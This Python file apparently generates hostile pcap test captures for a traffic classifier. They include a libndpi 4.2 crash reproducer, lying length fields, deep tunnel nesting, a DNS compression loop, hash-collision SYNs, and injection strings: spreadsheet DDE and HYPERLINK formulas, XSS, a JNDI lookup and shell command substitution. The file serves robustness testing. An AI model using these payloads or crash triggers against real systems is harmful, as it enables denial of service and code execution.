# SPDX-License-Identifier: Apache-2.0
"""Traffic made to hurt whoever looks at it: lying lengths, hostile words, expensive keys."""

import struct

import tunnels
import wire
from dialogues import (BITTORRENT_HELLO, CLIENT_SAYS, QUESTION, SERVER_SAYS, TLS, client_hello,
                       dns_header, perform)
from files import Frame, ethernet_pcap, in_ethernet, pcap
from payloads import noise, nsc1
from registry import add, capture
from talk import (CLIENT, CLIENT6, MS, SERVER, SERVER6, SSH_BANNER, START, Packet, Tcp, Udp,
                  merged, ssh_banner)
from wire import ACK, PSH, SYN, be16


def spaced(packets):
    return [Packet(START + i * MS, data) for i, data in enumerate(packets)]


# --- the crash of libndpi 4.2 ---------------------------------------------------------------


def meaningless(i):
    """60 octets that no dissector knows."""
    return bytes((((i + 1) * 97 + k * 53 + (k * k * (i + 3)) % 251) % 256) for k in range(60))


def crash(data_offset, client="10.1.0.2", server="10.1.0.1"):
    """18 frames: a BitTorrent connection puts both hosts into nDPI's cache, a second connection
    is given that name at its ninth payload, and the packet after that has a TCP data offset
    that lies beyond its end."""
    first = Tcp((client, 43000), (server, 154)).open().ask(BITTORRENT_HELLO)
    second = Tcp((client, 43001), (server, 154), START + 100 * MS).open()
    for i in range(9):
        second.say(i % 2, meaningless(i), acked=False)
    second.packet(1, ACK, data_offset=data_offset)
    return ethernet_pcap(merged(first, second))


for offset in (15, 6, 4, 0):
    add(f"hostile/ndpi-crash-data-offset-{offset}.pcap", lambda words=offset: crash(words))


@capture("hostile/ndpi-crash-ipv6.pcap")
def crash_ipv6():
    return crash(15, CLIENT6, SERVER6)


@capture("hostile/ndpi-udp-length.pcap")
def udp_lengths():
    """UDP lengths 0, 7, 8 and 65,535 over 24 octets of payload."""
    return ethernet_pcap(spaced(
        wire.udp((CLIENT, 50000 + length % 100), (SERVER, 395), nsc1(1), length=length)
        for length in (0, 7, 8, 65535)))


@capture("hostile/half-tls-hello.pcap")
def half_hello():
    """A ClientHello that claims 16 KB and never ends: memory in whoever waits for it."""
    hello = (bytes.fromhex("1603014000 01003ffc 0303") + noise(1, 32)
             + bytes.fromhex("00 0002 1301 0100") + noise(2, 1300))
    talk = Tcp((CLIENT, 50395), (SERVER, 395)).open().ask(hello)
    for i in range(30):
        talk.ask(noise(10 + i, 1400))
    return ethernet_pcap(talk)


# --- lengths that lie -----------------------------------------------------------------------

SYN_SEGMENT = wire.tcp_segment((CLIENT, 50154), (SERVER, 154), SYN, seq=1)


def lying_ipv4(**lies):
    return wire.ipv4(CLIENT, SERVER, wire.TCP, SYN_SEGMENT, **lies)


@capture("hostile/ipv4-lengths.pcap")
def ipv4_lengths():
    """Total lengths 0, 19, 20, 39, 41 and 65,535 of 40; header lengths 0 to 4 and 15 of 5."""
    return ethernet_pcap(spaced(
        [lying_ipv4(total_length=length) for length in (0, 19, 20, 39, 41, 65535)]
        + [lying_ipv4(header_words=words) for words in (0, 1, 2, 3, 4, 15)]))


@capture("hostile/ipv6-lengths.pcap")
def ipv6_lengths():
    """Payload lengths 0, 1, 19, 21 and 65,535 of 20."""
    segment = wire.tcp_segment((CLIENT6, 50154), (SERVER6, 154), SYN, seq=1)
    return ethernet_pcap(spaced(
        wire.ipv6(CLIENT6, SERVER6, wire.TCP, segment, payload_length=length)
        for length in (0, 1, 19, 21, 65535)))


@capture("hostile/tcp-data-offsets.pcap")
def tcp_data_offsets():
    """All sixteen, over a segment of 20 octets and 24 of payload."""
    return ethernet_pcap(spaced(
        wire.tcp((CLIENT, 50000 + words), (SERVER, 154), PSH | ACK, seq=1, payload=nsc1(1),
                 data_offset=words)
        for words in range(16)))


def cut_everywhere(frame):
    return pcap(Frame(START + size * MS, frame[:size], len(frame))
                for size in range(len(frame) + 1))


@capture("hostile/every-truncation.pcap")
def every_truncation():
    """One frame (802.1Q, IPv4 with options, TCP with options) cut at every length from 0."""
    segment = wire.tcp_segment((CLIENT, 50154), (SERVER, 154), SYN, options=wire.mss_option())
    packet = wire.ipv4(CLIENT, SERVER, wire.TCP, segment, options=b"\x94\x04\0\0")
    frame = wire.ethernet(packet, wire.vlan_tag(100))
    return cut_everywhere(frame)


@capture("hostile/every-truncation-ipv6.pcap")
def every_truncation_ipv6():
    """The same through hop-by-hop, routing and fragment headers to UDP."""
    datagram = wire.udp_datagram((CLIENT6, 50395), (SERVER6, 395), nsc1(1))
    chain = wire.routing_header(44, [SERVER6]) + wire.fragment_header(wire.UDP, 0, 0, 7) + datagram
    frame = wire.ethernet(wire.ipv6(CLIENT6, SERVER6, 0, wire.options_header(43) + chain))
    return cut_everywhere(frame)


@capture("hostile/nothing-but-noise.pcap")
def frames_of_noise():
    """200 frames of random octets."""
    return pcap((START + i * MS, noise(i, 14 + i % 200)) for i in range(200))


@capture("hostile/noise-behind-ip.pcap")
def noise_behind_ip():
    """A true IPv4 header of each protocol number, and noise behind it."""
    return ethernet_pcap(spaced(wire.ipv4(CLIENT, SERVER, protocol, noise(protocol, 60))
                                for protocol in range(256)))


# --- depths ---------------------------------------------------------------------------------


def inner():
    return wire.tcp((CLIENT, 50154), (SERVER, 154), SYN, seq=1)


def nested(wrap, times):
    packet = inner()
    for _ in range(times):
        packet = wrap(packet)[14:]
    return packet


@capture("hostile/depth-of-tunnels.pcap")
def depth_of_tunnels():
    """IP in IP 60 deep, GRE 40 deep, VXLAN 12 deep."""
    return ethernet_pcap(spaced((nested(tunnels.ip_in_ip, 60), nested(tunnels.gre, 40),
                                 nested(tunnels.vxlan, 12))))


@capture("hostile/depth-of-tags.pcap")
def depth_of_tags():
    """40 VLAN tags; 40 MPLS labels; 40 labels without a last one."""
    labels = b"".join(tunnels.label(16 + i, 0) for i in range(39))
    frames = (wire.ethernet(inner(), wire.vlan_tag(7) * 40),
              tunnels.mpls_frame(inner(), labels + tunnels.label(99, 1), inner()),
              tunnels.mpls_frame(inner(), labels + tunnels.label(99, 0), inner()))
    return pcap((START + i * MS, frame) for i, frame in enumerate(frames))


@capture("hostile/depth-of-extension-headers.pcap")
def depth_of_extensions():
    """150 destination options before TCP; then a header that points at itself for ever."""
    segment = wire.tcp_segment((CLIENT6, 50154), (SERVER6, 154), SYN, seq=1)
    chain = wire.options_header(60) * 149 + wire.options_header(wire.TCP)
    return ethernet_pcap(spaced((wire.ipv6(CLIENT6, SERVER6, 60, chain + segment),
                                 wire.ipv6(CLIENT6, SERVER6, 60, wire.options_header(60) * 150))))


# --- keys -----------------------------------------------------------------------------------


@capture("hostile/equal-sums.pcap")
def equal_sums():
    """900 SYNs whose addresses add up to the same number, in any byte order and by exclusive or
    as well: one bucket in every table whose hash is a sum."""
    def syn(i):
        high, low = divmod(i, 256)
        source, destination = f"10.0.{high}.{low}", f"10.255.{255 - high}.{255 - low}"
        return wire.tcp((source, 40000), (destination, 154), SYN)
    return ethernet_pcap(spaced(syn(i) for i in range(900)))


# --- words ----------------------------------------------------------------------------------

WORDS = {
    "terminal": b"a\x1b[2J\x1b[31mred\x1b]0;owned\x07\x08\x08b",
    "csv": b'a"b\\c,d;e|f\tg',
    "formula": b'=HYPERLINK("http://198.51.100.66/","click")',
    "formula-minus": b"-2+3+cmd|' /C calc'!A0",
    "json": b'","verdict":"empty"},{"x":"',
    "html": b"<script>alert(1)</script><img src=x onerror=alert(2)>",
    "bad-utf8": b"a\xff\xfe\xc3(\xed\xa0\x80\xf4\x90\x80\x80z",
    "bidi": "a\u202egpj.exe\u2066b\u2028c\u00a0d\u200be".encode(),
    "nul": b"a\0b\0",
    "format": b"%s%n%x{0}$(id)`id`${jndi:ldap://x}",
    "long": b"L" * 1200,
    "lines": b"a\rb\x0bc\x0cd\x85e",
}


def with_words(script):
    """One connection for each hostile word."""
    talks = []
    for i, word in enumerate(WORDS.values()):
        talk = Tcp((CLIENT, 51000 + i), (SERVER, script.port), START + i * 50 * MS).open()
        for who, data in script(word):
            talk.say(who, data)
        talks.append(talk.close())
    return ethernet_pcap(merged(*talks))


def http_words(word):
    return ((CLIENT_SAYS, b"GET /" + word + b" HTTP/1.1\r\nHost: " + word
             + b"\r\nUser-Agent: " + word + b"\r\n\r\n"),
            (SERVER_SAYS, b"HTTP/1.1 200 OK\r\nServer: " + word + b"\r\nContent-Length: 0\r\n\r\n"))


def ssh_words(word):
    return ((SERVER_SAYS, b"SSH-2.0-" + word[:240] + b"\r\n"),
            (CLIENT_SAYS, b"SSH-2.0-" + word[:240] + b"\r\n"))


def tls_words(word):
    return ((CLIENT_SAYS, client_hello(word)), *TLS[1:])


def ftp_words(word):
    return ((SERVER_SAYS, b"220 " + word + b"\r\n"), (CLIENT_SAYS, b"USER " + word + b"\r\n"),
            (SERVER_SAYS, b"331 password\r\n"), (CLIENT_SAYS, b"PASS " + word + b"\r\n"),
            (SERVER_SAYS, b"230 in\r\n"))


http_words.port, ssh_words.port, tls_words.port, ftp_words.port = 155, 154, 395, 395
for speech, scripted in (("http-tcp155", http_words), ("ssh-tcp154", ssh_words),
                         ("tls-tcp395", tls_words), ("ftp-tcp395", ftp_words)):
    add(f"hostile/words-{speech}.pcap", lambda script=scripted: with_words(script))


@capture("hostile/words-dns-udp395.pcap")
def words_in_dns():
    """Names whose labels are anything but letters, digits and hyphens."""
    def name(word):
        label = word[:60]
        return dns_header(0x0100) + bytes([len(label)]) + label + QUESTION[6:]
    return ethernet_pcap(merged(*(
        Udp((CLIENT, 51000 + i), (SERVER, 395), START + i * MS).ask(name(word))
        for i, word in enumerate(WORDS.values()))))


@capture("hostile/dns-compression-loop-udp395.pcap")
def dns_loop():
    """A name that points at itself."""
    return ethernet_pcap(Udp((CLIENT, 51000), (SERVER, 395))
                         .ask(dns_header(0x0100) + be16(0xC00C) + be16(1) + be16(1)))


# --- disguises ------------------------------------------------------------------------------


@capture("hostile/ssh-after-opaque-start.pcap")
def late_ssh():
    """Twenty opaque messages, then SSH: who looks only at the first packets misses it."""
    talk = Tcp((CLIENT, 50154), (SERVER, 154)).open()
    for i in range(20):
        talk.say(i % 2, nsc1(i))
    return ethernet_pcap(talk.answer(SSH_BANNER).ask(SSH_BANNER).close())


@capture("hostile/opaque-that-begins-like-http.pcap")
def almost_http():
    """`GET ` and then a binary protocol; no answer looks like HTTP."""
    script = [(i % 2, (b"GET " if i == 0 else b"") + nsc1(i)) for i in range(8)]
    return ethernet_pcap(perform(Tcp, 155, script))


@capture("hostile/ssh-in-one-direction-only.pcap")
def one_banner():
    """The client greets as SSH, the server never answers in kind."""
    return ethernet_pcap(perform(Tcp, 154, [(CLIENT_SAYS, SSH_BANNER)]
                                 + [(i % 2, nsc1(i)) for i in range(1, 8)]))


@capture("hostile/opaque-with-dns-shape.pcap")
def dns_shaped():
    """Datagrams whose first twelve octets could be a DNS header; the rest is noise."""
    talk = Udp((CLIENT, 50395), (SERVER, 395))
    for i in range(8):
        talk.say(i % 2, be16(100 + i) + be16(0x0100) + be16(1) + bytes(6) + noise(i, 20))
    return ethernet_pcap(talk)


@capture("hostile/sequence-numbers-wrap.pcap")
def wrap():
    """Sequence numbers pass 2^32 in the middle of SSH's banner."""
    talk = Tcp((CLIENT, 50154), (SERVER, 154), isn=(0xFFFFFFF8, 0xFFFFFFF0)).open()
    return ethernet_pcap(talk.answer(SSH_BANNER).ask(SSH_BANNER).close())


@capture("hostile/window-of-false-resets.pcap")
def false_resets():
    """Resets with sequence numbers outside the window, forged from a third party's guess: the
    conversation goes on."""
    talk = Tcp((CLIENT, 50154), (SERVER, 154)).open()
    for guess in range(5):
        talk.packet(0, wire.RST, seq=(guess + 1) << 28)
    return ethernet_pcap(talk.answer(SSH_BANNER).ask(SSH_BANNER).close())


@capture("hostile/wire-length-lies.pcap")
def wire_length_lies():
    """Captured 60 of 10 octets, then 60 of 4,294,967,295."""
    records = []
    for claim, (time, frame) in zip((10, 0xFFFFFFFF), in_ethernet(list(ssh_banner())[:2])):
        seconds, rest = divmod(time, 10**9)
        records.append(struct.pack("<IIII", seconds, rest // 1000, len(frame), claim) + frame)
    return pcap([]) + b"".join(records)
